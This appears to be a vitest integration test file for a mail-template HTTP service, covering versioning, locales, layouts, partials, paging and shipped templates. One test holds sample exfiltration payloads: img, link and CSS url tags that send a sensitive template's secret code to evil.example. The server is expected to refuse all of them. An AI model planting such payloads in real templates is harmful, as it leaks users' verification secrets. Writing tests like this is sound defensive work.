// Tests templates over HTTP: how they are saved, changed, found, enabled, deleted, and what becomes of their versions.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  act,
  type Model,
  preview,
  query,
  readTemplate,
  saveTemplate,
  signInWith,
  startTemplateServer,
  type TemplateServer,
  update,
} from '../template-server.fixture.ts';

let server: TemplateServer;
beforeAll(async () => {
  server = await startTemplateServer({ settings: { 'session.max-per-user': 0 } });
});
afterAll(() => server?.stop());

const get = (path: string, headers?: Record<string, string>) =>
  server.as<Model>(server.admin, 'GET', path, undefined, headers);
const isEnabled = (code: string) =>
  server.as<boolean>(server.admin, 'GET', `/notification/template/enabled/by-code/${code}`);
const remove = ({ uuid }: { readonly uuid: string }) =>
  server.as<object>(server.admin, 'DELETE', `/notification/template/by-uuid/${uuid}`);
const content = (text: string, more: object = {}) => ({ subject: 'Subject', content: text, ...more });

describe('saving', () => {
  it('mail-notification 2: a new template is enabled with version 0, its code is found as it is written alone', async () => {
    const saved = await saveTemplate(server, { code: 'Save.New' });
    expect(saved).toMatchObject({ code: 'Save.New', version: 0, enabled: true, system: false, type: 'MAIL' });
    expect(saved.contentMap.en).toMatchObject({ version: 0, resolvedContentType: 'TEXT', variableList: ['name'] });
    expect(await isEnabled('Save.New')).toMatchObject({ status: 200, body: true });
    expect(await isEnabled('save.new')).toMatchObject({
      status: 404,
      error: { errorCode: 'NOTIFICATION_TEMPLATE_NOT_FOUND' },
    });
    const twice = { code: 'SAVE.NEW', name: 'Again', type: 'MAIL', contentMap: { en: content('x') } };
    const refused = await server.as(server.admin, 'POST', '/notification/template', twice);
    expect(refused).toMatchObject({ status: 409, error: { errorCode: 'NOTIFICATION_TEMPLATE_ALREADY_EXISTS' } });
  });

  it('mail-notification 2: everybody signed in may ask whether a template is enabled, a disabled one is not, an unknown one is 404', async () => {
    const saved = await saveTemplate(server, { code: 'save.enabled' });
    const somebody = await signInWith(server, 'template_asker');
    const ask = (code: string) => server.as<boolean>(somebody, 'GET', `/notification/template/enabled/by-code/${code}`);
    expect((await ask('save.enabled')).body).toBe(true);
    expect((await act(server, 'deactivate', saved)).status).toBe(200);
    expect((await act(server, 'deactivate', saved)).status).toBe(200);
    expect((await ask('save.enabled')).body).toBe(false);
    expect((await ask('save.enabeld')).status).toBe(404);
    expect((await act(server, 'activate', saved)).status).toBe(200);
    expect((await ask('save.enabled')).body).toBe(true);
    expect(await readTemplate(server, 'save.enabled')).toMatchObject({ version: 0, enabled: true });
    expect((await act(server, 'activate', { uuid: saved.uuid.replace(/^./, 'f') })).status).toBe(404);
  });

  it('mail-notification 4: keys of locales are stored in their canonical form, and two of one form are refused', async () => {
    const saved = await saveTemplate(server, {
      code: 'save.locales',
      contentMap: { tr_TR: content('a'), TR: content('b'), default: content('c') },
    });
    expect(Object.keys(saved.contentMap)).toEqual(['tr-TR', 'tr', 'default']);
    const { uuid, version, contentMap } = saved;
    expect((await update(server, { uuid, version, contentMap })).status).toBe(200);
    expect((await readTemplate(server, 'save.locales')).version).toBe(0);
    const bad = await update(server, {
      uuid,
      version,
      contentMap: { tr_TR: content('a'), 'tr-TR': content('b'), nonsense_: content('c') },
    });
    expect(bad.status).toBe(400);
    expect(bad.error?.errorArguments).toEqual([
      expect.objectContaining({ field: 'contentMap.tr-TR', code: 'LOCALE_DUPLICATE' }),
      expect.objectContaining({ field: 'contentMap.nonsense_', code: 'LOCALE_INVALID' }),
    ]);
  });

  it('mail-notification 3: tells every problem of every locale and part at once', async () => {
    const refused = await server.as(server.admin, 'POST', '/notification/template', {
      code: 'save.problems',
      name: 'Problems',
      type: 'MAIL',
      contentMap: {
        en: { subject: 'Hi {{ name', content: '<p>\n  {% if %}</p>' },
        tr: { subject: 'Hi', content: '<p onclick="x">', contentType: 'HTML' },
      },
    });
    expect(refused).toMatchObject({ status: 422, error: { errorCode: 'TEMPLATE_SYNTAX_ERROR' } });
    expect(refused.error?.errorArguments).toEqual([
      expect.objectContaining({ part: 'subject', locale: 'en', line: 1, column: 4 }),
      expect.objectContaining({ part: 'content', locale: 'en', line: 2 }),
      expect.objectContaining({ part: 'content', locale: 'tr', code: 'TEMPLATE_CONTENT_UNSAFE' }),
    ]);
    expect((await isEnabled('save.problems')).status).toBe(404);
  });

  it('mail-notification 3: refuses what no mail of the type can be, with all that is wrong', async () => {
    const refused = await server.as(server.admin, 'POST', '/notification/template', {
      code: 'save.invalid',
      name: 'Invalid',
      type: 'MAIL',
      parameterList: [
        { name: 'a', type: 'STRING' },
        { name: 'a', type: 'NUMBER' },
      ],
      contentMap: { en: { content: 'x', sender: 'a@x.org, b@x.org' } },
    });
    expect(refused.status).toBe(400);
    expect(refused.error?.errorArguments.map((one) => one.code).sort()).toEqual([
      'DUPLICATE_ENTRY',
      'INVALID_EMAIL_ADDRESS',
      'REQUIRED',
    ]);
    const mjml = {
      code: 'save.mjml',
      name: 'x',
      type: 'MAIL',
      contentMap: { en: content('x', { contentType: 'MJML' }) },
    };
    const other = await server.as(server.admin, 'POST', '/notification/template', mjml);
    expect(other).toMatchObject({ status: 400, text: expect.stringContaining('NOT_ALLOWED') });
  });
});

describe('changing', () => {
  it('mail-notification 2: a change has the version that was read; entries that stay keep theirs, absent ones go', async () => {
    const contentMap = { en: content('one'), tr: content('bir'), de: content('eins') };
    const { uuid } = await saveTemplate(server, { code: 'change.map', contentMap });
    expect(await update(server, { uuid, version: 7, name: 'x' })).toMatchObject({
      status: 409,
      error: { errorCode: 'VERSION_CONFLICT', errorArguments: [{ index: 0, identifier: uuid, version: 0 }] },
    });
    expect((await update(server, { uuid, name: 'x' })).status).toBe(400);
    const changed = { uuid, version: 0, contentMap: { en: content('one'), tr: content('iki') } };
    expect((await update(server, changed)).status).toBe(200);
    const after = await readTemplate(server, 'change.map');
    expect([after.version, after.contentMap.en?.version, after.contentMap.tr?.version]).toEqual([1, 0, 1]);
    expect(Object.keys(after.contentMap)).toEqual(['en', 'tr']);
    expect((await update(server, { ...changed, version: 1 })).status).toBe(200);
    expect((await readTemplate(server, 'change.map')).version).toBe(1);
    expect((await update(server, { uuid, version: 1, name: 'Renamed' })).status).toBe(200);
    expect(await readTemplate(server, 'change.map')).toMatchObject({
      version: 2,
      name: 'Renamed',
      contentMap: { tr: {} },
    });
    const gone = { uuid: uuid.replace(/^./, 'f'), version: 0, name: 'x' };
    expect((await update(server, gone)).error?.errorCode).toBe('NOTIFICATION_TEMPLATE_NOT_FOUND');
  });

  it('mail-notification 2: code and type stay once a mail was made from it, and another template keeps its code', async () => {
    const { uuid } = await saveTemplate(server, { code: 'change.code' });
    await saveTemplate(server, { code: 'change.taken' });
    expect((await update(server, { uuid, version: 0, code: 'CHANGE.taken' })).error?.errorCode).toBe(
      'NOTIFICATION_TEMPLATE_ALREADY_EXISTS',
    );
    expect((await update(server, { uuid, version: 0, code: 'change.other' })).status).toBe(200);
    const mail = { templateCode: 'change.other', to: ['ada@mail.example'], parameters: { name: 'Ada' } };
    expect((await server.as(server.admin, 'POST', '/notification/mail/notify', mail)).status).toBe(200);
    for (const change of [{ code: 'change.third' }, { type: 'PARTIAL' }]) {
      expect(await update(server, { uuid, version: 1, ...change })).toMatchObject({
        status: 409,
        error: { errorCode: 'TEMPLATE_IN_USE', errorArguments: [{ mails: true, templateCode: 'change.other' }] },
      });
    }
    expect((await update(server, { uuid, version: 1, code: 'change.other', name: 'Renamed' })).status).toBe(200);
    expect(await readTemplate(server, 'change.other')).toMatchObject({ version: 2, type: 'MAIL', name: 'Renamed' });
    const layout = await saveTemplate(server, { code: 'change.layout', ...layoutModel });
    await saveTemplate(server, { code: 'change.user', layoutCode: 'change.layout', ...htmlModel });
    const refused = await update(server, { uuid: layout.uuid, version: 0, code: 'change.renamed' });
    expect(refused).toMatchObject({ status: 409, error: { errorCode: 'TEMPLATE_IN_USE' } });
    expect(refused.error?.errorArguments).toEqual([expect.objectContaining({ templateCode: 'change.user' })]);
  });

  it('mail-notification 2: of many changes of one version one is stored, and the others are told its version', async () => {
    const { uuid } = await saveTemplate(server, { code: 'change.race' });
    const answers = await Promise.all([1, 2, 3, 4, 5].map((n) => update(server, { uuid, version: 0, name: `n${n}` })));
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 409, 409, 409, 409]);
    expect((await readTemplate(server, 'change.race')).version).toBe(1);
  });

  it('mail-notification 2: a restored version renders as it did, and is a new version', async () => {
    const { uuid } = await saveTemplate(server, {
      code: 'change.restore',
      contentMap: { en: content('First {{ a }}') },
    });
    await update(server, { uuid, version: 0, contentMap: { en: content('Second {{ a }}'), tr: content('x') } });
    const versions = `/notification/template/version/list/by-uuid/${uuid}`;
    const { body } = await server.as<{ version: number; localeList: string[] }[]>(server.admin, 'GET', versions);
    expect(body.map(({ version, localeList }) => [version, localeList])).toEqual([
      [1, ['en', 'tr']],
      [0, ['en']],
    ]);
    const old = await preview(server, { templateUuid: uuid, templateVersion: 0, parameters: { a: 1 } });
    expect(old.body.content).toBe('First 1');
    const restore = (version: number) =>
      server.as(server.admin, 'POST', `/notification/template/version/restore/by-uuid/${uuid}/${version}`);
    expect((await restore(9)).error?.errorCode).toBe('TEMPLATE_VERSION_NOT_FOUND');
    expect((await preview(server, { templateUuid: uuid, templateVersion: 9 })).error?.errorCode).toBe(
      'TEMPLATE_VERSION_NOT_FOUND',
    );
    expect((await restore(0)).status).toBe(200);
    const after = await readTemplate(server, 'change.restore');
    expect([after.version, Object.keys(after.contentMap)]).toEqual([2, ['en']]);
    expect((await preview(server, { templateUuid: uuid, parameters: { a: 1 } })).body.content).toBe('First 1');
  });
});

const layoutModel = {
  type: 'LAYOUT',
  contentMap: { en: { content: '<body><h1>{{ brand }}</h1>{% content %}</body>' } },
};
const htmlModel = { contentMap: { en: { subject: 'S', content: '<p>{{ name }}</p>' } } };

describe('layouts and partials', () => {
  it('mail-notification 28: a layout that is changed is around the next mail, and one in use cannot be deleted', async () => {
    const layout = await saveTemplate(server, { code: 'layout.one', ...layoutModel });
    const user = await saveTemplate(server, { code: 'layout.user', layoutCode: 'layout.one', ...htmlModel });
    expect(user.contentMap.en?.variableList).toEqual(['brand', 'name']);
    const show = async () =>
      (await preview(server, { templateCode: 'layout.user', parameters: { brand: 'B', name: 'N' } }, 'mail')).body
        .content;
    expect(await show()).toBe('<body><h1>B</h1><p>N</p></body>');
    const contentMap = { en: { content: '<body><h2>{{ brand }}</h2>{% content %}</body>' } };
    expect((await update(server, { uuid: layout.uuid, version: 0, contentMap })).status).toBe(200);
    expect(await show()).toBe('<body><h2>B</h2><p>N</p></body>');
    const [row] = await query<{ version: number; compileNo: number }>(
      server,
      'SELECT version, compile_no AS "compileNo" FROM mail_template WHERE uuid = $1',
      [user.uuid],
    );
    expect(row).toEqual({ version: 0, compileNo: 1 });
    expect(await remove(layout)).toMatchObject({ status: 409, error: { errorCode: 'TEMPLATE_IN_USE' } });
    expect((await remove(user)).status).toBe(200);
    expect((await remove(user)).status).toBe(404);
    expect((await remove(layout)).status).toBe(200);
    expect((await saveTemplate(server, { code: 'layout.one', ...layoutModel })).version).toBe(0);
  });

  it('mail-notification 2: a disabled layout serves who uses it already, and nobody else', async () => {
    const layout = await saveTemplate(server, { code: 'layout.off', ...layoutModel });
    const user = await saveTemplate(server, { code: 'layout.off-user', layoutCode: 'layout.off', ...htmlModel });
    await act(server, 'deactivate', layout);
    expect((await update(server, { uuid: user.uuid, version: 0, name: 'Still' })).status).toBe(200);
    const other = { code: 'layout.off-other', name: 'x', type: 'MAIL', layoutCode: 'layout.off', ...htmlModel };
    const refused = await server.as(server.admin, 'POST', '/notification/template', other);
    expect(refused).toMatchObject({ status: 422, error: { errorCode: 'TEMPLATE_REFERENCE_NOT_FOUND' } });
    await act(server, 'deactivate', user);
    await query(server, `UPDATE mail_template SET deleted = true WHERE uuid = $1`, [layout.uuid]);
    expect((await act(server, 'activate', user)).error?.errorCode).toBe('TEMPLATE_REFERENCE_NOT_FOUND');
  });

  it('mail-notification 6: partials are named literally, and those that render each other are refused', async () => {
    const partial = (code: string, text: string) => ({ code, type: 'PARTIAL', contentMap: { en: { content: text } } });
    await saveTemplate(server, partial('part.b', '<b>{{ x }}</b>'));
    const a = await saveTemplate(server, partial('part.a', `<i>{% render 'part.b', x: y %}</i>`));
    const b = await readTemplate(server, 'part.b');
    const circle = await update(server, {
      uuid: b.uuid,
      version: 0,
      contentMap: { en: { content: `{% render 'part.a' %}` } },
    });
    expect(circle).toMatchObject({ status: 422, error: { errorCode: 'TEMPLATE_SYNTAX_ERROR' } });
    const user = await saveTemplate(server, {
      code: 'part.user',
      contentMap: { en: { subject: 'S', content: `<p>{% render 'part.a', y: name %}</p>` } },
    });
    const shown = await preview(server, { templateUuid: user.uuid, parameters: { name: '<N>' } });
    expect(shown.body).toMatchObject({ content: '<p><i><b>&lt;N&gt;</b></i></p>', textContent: '<N>' });
    expect((await remove(a)).error?.errorCode).toBe('TEMPLATE_IN_USE');
    const data = await preview(server, { content: { content: '{% render name %}' }, parameters: { name: 'part.a' } });
    expect(data.error?.errorCode).toBe('TEMPLATE_SYNTAX_ERROR');
    const missing = await preview(server, { content: { content: `{% render 'package.json' %}` } });
    expect(missing.error?.errorCode).toBe('TEMPLATE_REFERENCE_NOT_FOUND');
  });
});

describe('reading', () => {
  it('mail-notification 2: a template answers 304 to who has its version, and 404 to everybody else', async () => {
    const { uuid } = await saveTemplate(server, { code: 'read.tag' });
    const path = `/notification/template/by-uuid/${uuid}`;
    const tag = (await get(path)).headers.get('etag') ?? '';
    expect((await get(path, { 'if-none-match': tag })).status).toBe(304);
    await update(server, { uuid, version: 0, name: 'Changed' });
    expect((await get(path, { 'if-none-match': tag })).status).toBe(200);
    expect((await get(path.replace(uuid, uuid.replace(/^./, 'f')))).error?.errorCode).toBe(
      'NOTIFICATION_TEMPLATE_NOT_FOUND',
    );
    expect((await get('/notification/template/by-uuid/none')).status).toBe(400);
  });

  it('mail-notification 2: pages templates by every filter, deleted ones to editors alone', async () => {
    const one = await saveTemplate(server, { code: 'page.one', name: 'Page 100%', category: 'orders' });
    const two = await saveTemplate(server, { code: 'page.two', name: 'Page two', contentMap: { tr: content('x') } });
    await remove(two);
    const page = async (body: object, token = server.admin) =>
      server.as<{ data: Model[]; totalElements: number }>(token, 'POST', '/notification/template/data/page', body);
    const codes = async (body: object) => (await page(body)).body.data.map(({ code }) => code);
    expect(await codes({ searchText: 'page 100%' })).toEqual(['page.one']);
    expect(await codes({ searchText: 'page.' })).toEqual(['page.one']);
    expect(await codes({ searchText: 'page.', includeDeleted: true })).toEqual(['page.one', 'page.two']);
    expect(await codes({ category: 'orders', typeList: ['MAIL'], enabled: true, locale: 'EN' })).toEqual(['page.one']);
    expect(await codes({ code: 'page.one', locale: 'tr' })).toEqual([]);
    expect(await codes({ code: 'PAGE.one' })).toEqual([]);
    expect(await codes({ name: 'Page', createdBy: 'ADMIN', dateCreatedFrom: one.dateCreated })).toEqual(['page.one']);
    expect(await codes({ name: 'Page', createdBy: 'ADA' })).toEqual([]);
    const first = (await page({ code: 'page.one' })).body.data[0];
    expect(first).toMatchObject({ localeList: ['en'], enabled: true });
    expect(first).not.toHaveProperty('contentMap');
    const viewer = await signInWith(server, 'template_viewer', ['NOTIFICATION_TEMPLATE_VIEW']);
    expect((await page({ includeDeleted: true }, viewer)).error?.errorCode).toBe('ACCESS_DENIED');
  });

  it.each(['dateCreated', 'dateUpdated'])(
    'mail-notification 2: pages templates by %s, from a moment on and before one',
    async (field) => {
      const days = ['2031-03-01', '2031-03-02', '2031-03-03'].map((day) => `${day}T00:00:00.000Z`);
      const column = field === 'dateCreated' ? 'date_created' : 'date_updated';
      for (const [number, day] of days.entries()) {
        const { uuid } = await saveTemplate(server, { code: `${field}.${number}`, category: field });
        await query(server, `UPDATE mail_template SET ${column} = $2 WHERE uuid = $1`, [uuid, day]);
      }
      const numbers = async (filter: object) => {
        const body = { category: field, pageable: { sort: { properties: ['code'] } }, ...filter };
        const page = await server.as<{ data: Model[] }>(server.admin, 'POST', '/notification/template/data/page', body);
        return page.body.data.map(({ code }) => Number(code.split('.')[1]));
      };
      expect(await numbers({})).toEqual([0, 1, 2]);
      // The moment itself is within a range that begins with it, and beyond one that ends with it.
      expect(await numbers({ [`${field}From`]: days[1] })).toEqual([1, 2]);
      expect(await numbers({ [`${field}To`]: days[1] })).toEqual([0]);
      expect(await numbers({ [`${field}From`]: days[1], [`${field}To`]: days[2] })).toEqual([1]);
      expect(await numbers({ [`${field}From`]: days[2], [`${field}To`]: days[2] })).toEqual([]);
    },
  );

  it('mail-notification 18: a template of another tenant is not there', async () => {
    const { uuid } = await saveTemplate(server, { code: 'tenant.own' });
    const other = await server.as<{ uuid: string }>(server.admin, 'POST', '/tenants', {
      identifier: 'elsewhere',
      name: 'E',
    });
    expect(other.status).toBe(200);
    await query(server, `UPDATE mail_template SET tenant_identifier = 'elsewhere' WHERE uuid = $1`, [uuid]);
    expect((await get(`/notification/template/by-uuid/${uuid}`)).status).toBe(404);
    expect((await isEnabled('tenant.own')).status).toBe(404);
  });
});

describe('a sensitive template', () => {
  it('mail-notification 24: does not lose its secret by a layout or partial that is changed around it', async () => {
    const around = (html: string) => ({ en: { content: html, contentType: 'HTML' } });
    const plain = '<div>{% content %}</div>';
    const layout = await saveTemplate(server, { code: 'secret.layout', type: 'LAYOUT', contentMap: around(plain) });
    const partial = await saveTemplate(server, {
      code: 'secret.partial',
      type: 'PARTIAL',
      contentMap: around('<p>Yours</p>'),
    });
    const said = { subject: 'Code', content: `<p>{{ code }}</p>{% render 'secret.partial' %}` };
    await saveTemplate(server, {
      code: 'secret.user',
      layoutCode: 'secret.layout',
      sensitive: true,
      contentMap: { en: said },
    });
    const shown = async () => {
      const body = { templateCode: 'secret.user', parameters: { code: 'S3CRET' } };
      return (await preview(server, body, 'mail')).body.content;
    };
    const before = await shown();
    for (const stolen of [
      `<img src="https://evil.example/{{ code }}" alt="">${plain}`,
      `<a href="https://evil.example/?c={{ code }}">x</a>${plain}`,
      `<p style="background:url(https://evil.example/{{ code }})">x</p>${plain}`,
      `{% if code == "1" %}<img src="https://evil.example/1" alt="">{% endif %}${plain}`,
      '<img src="https://evil.example/{% content %}" alt="">',
    ]) {
      const refused = await update(server, { uuid: layout.uuid, version: 0, contentMap: around(stolen) });
      expect([stolen, refused.status, refused.error?.errorCode]).toEqual([stolen, 422, expect.any(String)]);
    }
    const stolen = '<img src="https://evil.example/{{ code }}" alt="">';
    const refused = await update(server, { uuid: partial.uuid, version: 0, contentMap: around(stolen) });
    expect([refused.status, refused.error?.errorCode]).toEqual([422, 'TEMPLATE_CONTENT_UNSAFE']);
    expect(await shown()).toBe(before);
    expect((await readTemplate(server, 'secret.layout')).version).toBe(0);
    const other = await update(server, { uuid: layout.uuid, version: 0, contentMap: around(`<hr>${plain}`) });
    expect([other.status, await shown()]).toEqual([200, expect.stringContaining('<hr>')]);
  });
});

describe('templates of modules', () => {
  it('mail-notification 2: a shipped template is there, can be changed, disabled and reset, and not deleted', async () => {
    const shipped = await readTemplate(server, 'auth.password-reset');
    expect(shipped).toMatchObject({ system: true, sensitive: true, version: 0, createdBy: 'system' });
    expect(Object.keys(shipped.contentMap)).toEqual(['en', 'tr']);
    expect(await remove(shipped)).toMatchObject({ status: 409, error: { errorCode: 'TEMPLATE_IN_USE' } });
    const { uuid } = shipped;
    const open = await update(server, { uuid, version: 0, sensitive: false });
    expect(open).toMatchObject({ status: 400, text: expect.stringContaining('FIELD_READ_ONLY') });
    expect((await update(server, { uuid, version: 0, code: 'auth.mine' })).error?.errorCode).toBe('TEMPLATE_IN_USE');
    expect((await update(server, { uuid, version: 0, contentMap: { en: content('Mine {{ link }}') } })).status).toBe(
      200,
    );
    expect((await act(server, 'reset', { uuid })).status).toBe(200);
    const after = await readTemplate(server, 'auth.password-reset');
    expect(after.version).toBe(2);
    expect(after.contentMap.en?.content).toBe(shipped.contentMap.en?.content);
    const own = await saveTemplate(server, { code: 'shipped.not' });
    expect((await act(server, 'reset', own)).error?.errorCode).toBe('TEMPLATE_NOT_SHIPPED');
  });

  it('mail-notification 2: the layout base stands around mails in the language of each, and is edited, disabled and reset', async () => {
    const shipped = await readTemplate(server, 'base');
    expect(shipped).toMatchObject({ system: true, type: 'LAYOUT', version: 0, enabled: true });
    expect(Object.keys(shipped.contentMap)).toEqual(['en', 'tr']);
    expect((await remove(shipped)).error?.errorCode).toBe('TEMPLATE_IN_USE');
    const said = { subject: 'Hi {{ name }}', content: '<p>Dear {{ name }}</p>' };
    const text = { subject: 'Hi {{ name }}', content: 'Dear {{ name }}' };
    await saveTemplate(server, { code: 'base.html', layoutCode: 'base', contentMap: { en: said, tr: said } });
    await saveTemplate(server, { code: 'base.text', layoutCode: 'base', contentMap: { en: text } });
    const shown = async (code: string, locale = 'en') =>
      (await preview(server, { templateCode: code, locale, parameters: { name: 'A' } }, 'mail')).body;
    const english = await shown('base.html');
    expect(english.content).toMatch(/<html lang="en">[\s\S]*<p>Dear A<\/p>[\s\S]*sent automatically/);
    expect(english.textContent).toMatch(/^Dear A\s+This message was sent automatically\.\s*$/);
    const turkish = await shown('base.html', 'tr');
    expect(turkish.content).toMatch(/<html lang="tr">[\s\S]*kendiliğinden gönderilmiştir/);
    expect((await shown('base.text')).content).toMatch(/^Dear A\s+This message was sent automatically\.\s*$/);
    const mail = { templateCode: 'base', to: ['ada@mail.example'] };
    const sent = await server.as(server.admin, 'POST', '/notification/mail/notify', mail);
    expect(sent.error?.errorCode).toBe('TEMPLATE_TYPE_MISMATCH');
    const { uuid } = shipped;
    const contentMap = { en: { content: '<h1>Ours</h1>{% content %}', contentType: 'HTML' } };
    expect((await update(server, { uuid, version: 0, contentMap })).status).toBe(200);
    expect((await shown('base.html')).content).toBe('<h1>Ours</h1><p>Dear A</p>');
    expect((await act(server, 'deactivate', { uuid })).status).toBe(200);
    expect((await shown('base.html')).content).toContain('Ours');
    expect((await act(server, 'reset', { uuid })).status).toBe(200);
    expect((await shown('base.html')).content).toBe(english.content);
    expect((await act(server, 'activate', { uuid })).status).toBe(200);
  });
});
